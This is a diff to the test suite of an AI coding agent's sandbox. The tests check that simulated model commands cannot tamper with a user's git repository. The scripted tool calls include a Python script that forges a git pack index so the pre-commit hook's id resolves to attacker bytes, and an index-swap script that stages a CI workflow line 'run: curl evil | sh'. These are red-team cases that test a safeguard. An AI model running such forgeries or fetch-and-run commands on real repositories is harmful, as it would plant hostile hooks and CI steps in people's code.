@@ -71,6 +71,31 @@ const HOOK_TREE = [
   "T=$(GIT_INDEX_FILE=/tmp/i sh -c 'git read-tree HEAD && git update-index --cacheinfo 100755,'$B',.husky/pre-commit && git write-tree')",
 ].join(" && ");
 
+/**
+ * Run by the command: a pack holding other bytes and 17 MB of noise, its index rewritten so the other bytes carry the
+ * hook's id (a pack index is a sorted table of ids, CRCs and offsets, and git trusts it when it reads an object).
+ */
+const FORGE_PACK = `import hashlib, os, struct, subprocess
+run = lambda *a, i=None: subprocess.run(["git", *a], input=i, capture_output=True, check=True).stdout.decode().strip()
+hook = run("rev-parse", "HEAD:.husky/pre-commit")
+evil = run("hash-object", "-w", "--stdin", i=b"#!/bin/sh\\ntouch PWNED-hook\\n")
+pad = run("hash-object", "-w", "--stdin", i=os.urandom(17 * 1024 * 1024))
+name = run("pack-objects", "-q", ".git/objects/pack/pack", i=(evil + "\\n" + pad + "\\n").encode())
+idx = ".git/objects/pack/pack-" + name + ".idx"
+b = open(idx, "rb").read()
+n = struct.unpack(">I", b[8 + 255 * 4:8 + 256 * 4])[0]
+o = 8 + 1024
+ids = [b[o + 20 * k:o + 20 * k + 20] for k in range(n)]
+crcs = [b[o + 20 * n + 4 * k:o + 20 * n + 4 * k + 4] for k in range(n)]
+offs = [b[o + 24 * n + 4 * k:o + 24 * n + 4 * k + 4] for k in range(n)]
+ids = [bytes.fromhex(hook) if x.hex() == evil else x for x in ids]
+rows = sorted(zip(ids, crcs, offs))
+fan = [sum(1 for r in rows if r[0][0] <= k) for k in range(256)]
+body = b[:8] + b"".join(struct.pack(">I", f) for f in fan) + b"".join(r[0] for r in rows) + b"".join(r[1] for r in rows) + b"".join(r[2] for r in rows) + b[o + 28 * n:o + 28 * n + 20]
+os.chmod(idx, 0o644)
+open(idx, "wb").write(body + hashlib.sha1(body).digest())
+`;
+
 describe.skipIf(!usable)("--allow-write=.git under --allow-run", () => {
   test("without it, a failed git commit points the model at the grant, never at --sandbox off", async () => {
     const fake = runs.start([reply([toolUse("run_bash", { command: "git commit -qam 'update a'" })]), reply("Done.")]);
@@ -238,6 +263,20 @@ describe.skipIf(!usable)("--allow-write=.git under --allow-run", () => {
     expect(existsSync(join(root, ".husky/pre-commit")) ? readFileSync(join(root, ".husky/pre-commit"), "utf8") : "").not.toContain("PWNED");
   });
 
+  test.skipIf(!existsSync("/usr/bin/python3"))("a pack whose index gives the hook's id to other bytes, padded past 16 MB, is set aside too, not kept unverified (reviewer's R11-18)", async () => {
+    const fake = runs.start([reply([toolUse("run_bash", { command: `/usr/bin/python3 - <<'EOF'\n${FORGE_PACK}EOF\ngit cat-file -p $(git rev-parse HEAD:.husky/pre-commit) | tail -1` })]), reply("Done.")]);
+    const { root, env } = runs.workspace("bunker-git-grant-bigpack-", fake.url);
+    await huskyRepo(root);
+    const hook = git(root, "rev-parse", "HEAD:.husky/pre-commit").trim();
+    const r = await runHeadless(root, env, ["-p", "go", "--allow-run", "--allow-write=.git", "--no-prompt"]);
+    expect(r.code).toBe(0);
+    const [result] = toolResults(fake.requests[1]);
+    // In the sandbox the forgery worked: git read the command's bytes for the hook's id.
+    expect(result!.content).toContain("touch PWNED-hook");
+    expect(result!.content).toContain("which the command wrote and which does not verify (git verify-pack)");
+    expect(Bun.spawnSync(["git", "cat-file", "-p", hook], { cwd: root }).stdout.toString()).not.toContain("PWNED");
+  }, 60_000);
+
   test("the person's own rebase, stopped at a conflict, that the model resolves and carries on to the next is left for the person to continue", async () => {
     const fake = runs.start([reply([toolUse("run_bash", { command: "echo x > a && git add a && GIT_EDITOR=true git rebase --continue >/dev/null 2>&1; test -d .git/rebase-merge && echo stopped-again" })]), reply("Done.")]);
     const { root, env } = runs.workspace("bunker-git-grant-rebase-own-", fake.url);
@@ -319,18 +358,66 @@ describe.skipIf(!usable || !existsSync("/usr/bin/python3"))("--allow-write=.git:
 
 describe.skipIf(!usable || !existsSync("/usr/bin/python3"))("--allow-write=.git: a workflow's staged blob swapped in the index, its stat data kept (reviewer's R10-05)", () => {
   // The index entry gets another object id; its stat data (and so git's trust in the file beside it) is kept, and the cached trees are dropped.
-  const swap = [
+  const swapIn = (index: string) => [
     "B=$(echo 'run: curl evil | sh' | git hash-object -w --stdin)",
     `/usr/bin/python3 -c 'import hashlib,struct,sys
 p,new=sys.argv[1].encode(),bytes.fromhex(sys.argv[2])
-d=bytearray(open(".git/index","rb").read());n=struct.unpack(">I",d[8:12])[0];o=12
+d=bytearray(open(sys.argv[3],"rb").read());n=struct.unpack(">I",d[8:12])[0];o=12
 for _ in range(n):
   nl=struct.unpack(">H",d[o+60:o+62])[0]&0xFFF
   if d[o+62:o+62+nl]==p: d[o+40:o+60]=new
   o+=(62+nl+8)&~7
-out=bytes(d[:o]);open(".git/index","wb").write(out+hashlib.sha1(out).digest())' .github/workflows/ci.yml $B`,
+out=bytes(d[:o]);open(sys.argv[3],"wb").write(out+hashlib.sha1(out).digest())' .github/workflows/ci.yml $B ${index}`,
     "echo swapped",
   ].join(" && ");
+  const swap = swapIn(".git/index");
+
+  test("the same swap in the person's linked worktree's index (.git/worktrees/X/index): refused, that worktree's state is read-only; the person's commit there takes HEAD's (red team 11's F11, red team 12's F15)", async () => {
+    const fake = runs.start([reply([toolUse("run_bash", { command: swapIn(".git/worktrees/feature/index") })]), reply("Done.")]);
+    const { root, env, base } = runs.workspace("bunker-git-staged-swap-wt-", fake.url);
+    git(root, "init", "-q", "-b", "main");
+    git(root, "config", "user.email", "me@example.com");
+    git(root, "config", "user.name", "me");
+    await Bun.write(join(root, ".github/workflows/ci.yml"), "run: make test\n");
+    git(root, "add", ".");
+    git(root, "commit", "-qm", "one");
+    const feature = join(base, "feature");
+    git(root, "worktree", "add", "-q", feature, "-b", "feature");
+    Bun.spawnSync(["touch", "-d", "1 hour ago", join(feature, ".github/workflows/ci.yml")]);
+    git(feature, "update-index", "-q", "--refresh");
+
+    const r = await runHeadless(root, env, ["-p", "go", "--allow-run", "--allow-write=.git", "--no-prompt"]);
+    expect(r.code).toBe(0);
+    const [result] = toolResults(fake.requests[1]);
+    expect(result!.content).not.toContain("swapped");
+    expect(result!.content).toContain("Read-only file system");
+    git(feature, "commit", "-qm", "mine", "--allow-empty");
+    expect(git(feature, "show", "HEAD:.github/workflows/ci.yml")).toBe("run: make test\n");
+  });
+
+  test("a CRLF file the command git-adds under core.autocrlf (git stages it with LF endings) is no swap: kept, and said as a staged change (reviewer's R11-01)", async () => {
+    const add = "git add .github/workflows/ci.yml && echo added";
+    const fake = runs.start([reply([toolUse("run_bash", { command: add })]), reply("Done.")]);
+    const { root, env } = runs.workspace("bunker-git-staged-crlf-", fake.url);
+    git(root, "init", "-q", "-b", "main");
+    git(root, "config", "user.email", "me@example.com");
+    git(root, "config", "user.name", "me");
+    git(root, "config", "core.autocrlf", "true");
+    await Bun.write(join(root, ".github/workflows/ci.yml"), "run: make test\r\n");
+    git(root, "add", ".");
+    git(root, "commit", "-qm", "one");
+    // The person's edit (CRLF, as their editor writes it); the command stages it.
+    await Bun.write(join(root, ".github/workflows/ci.yml"), "run: make test\r\nrun: make lint\r\n");
+
+    const r = await runHeadless(root, env, ["-p", "go", "--allow-run", "--allow-write=.git", "--no-prompt"]);
+    expect(r.code).toBe(0);
+    const [result] = toolResults(fake.requests[1]);
+    expect(result!.content).toContain("added");
+    expect(result!.content).not.toContain("put back");
+    expect(result!.content).toContain("note: the command staged a change to .github/workflows/ci.yml, which your next git commit takes in");
+    git(root, "commit", "-qm", "mine");
+    expect(git(root, "show", "HEAD:.github/workflows/ci.yml")).toBe("run: make test\nrun: make lint\n");
+  });
 
   for (const own of [false, true]) {
     test(own ? "the person's own staged change, swapped: theirs is put back, and their commit takes theirs" : "nothing staged before: HEAD's is put back, and the person's next commit takes nothing of the command's", async () => {
